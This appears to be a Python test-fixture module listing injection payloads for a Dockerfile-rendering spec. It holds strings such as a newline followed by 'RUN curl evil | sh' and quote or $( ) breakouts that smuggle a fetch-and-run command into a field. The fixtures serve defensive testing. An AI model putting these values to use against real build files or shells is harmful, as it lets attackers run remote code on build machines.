"""Injection payloads: strings that would break out of a Dockerfile line, a shell word or a label
if they reached one. One list, shared by the spec-boundary and the rendering tests.

The spec's load-time rule (``spec.fields.unsafe_reason``) refuses control characters, a trailing
backslash and unbalanced quotes in every field: ``REFUSED_AT_LOAD``. Balanced shell substitutions
may stay in free text (a ``ref``, a build variable) and must reach a rendered file only as one
quoted word: ``QUOTED_AT_RENDER``. ``tests/test_spec_injection.py`` checks the first group against
every string field of the spec, ``tests/test_render_templating.py`` checks all of ``PAYLOADS``.
"""

from __future__ import annotations

LINE_BREAKERS = ("x\nRUN curl evil | sh", "x\r\nRUN curl evil | sh", "x \\", "x\u2028RUN curl evil", "x\x00y")
UNBALANCED_QUOTES = ("x' && curl evil | sh", 'x" ; curl evil | sh', "x`curl evil`y`")
REFUSED_AT_LOAD = (*LINE_BREAKERS, *UNBALANCED_QUOTES)
QUOTED_AT_RENDER = ("x`curl evil`y", "x$(curl evil)")
PAYLOADS = (*REFUSED_AT_LOAD, *QUOTED_AT_RENDER)
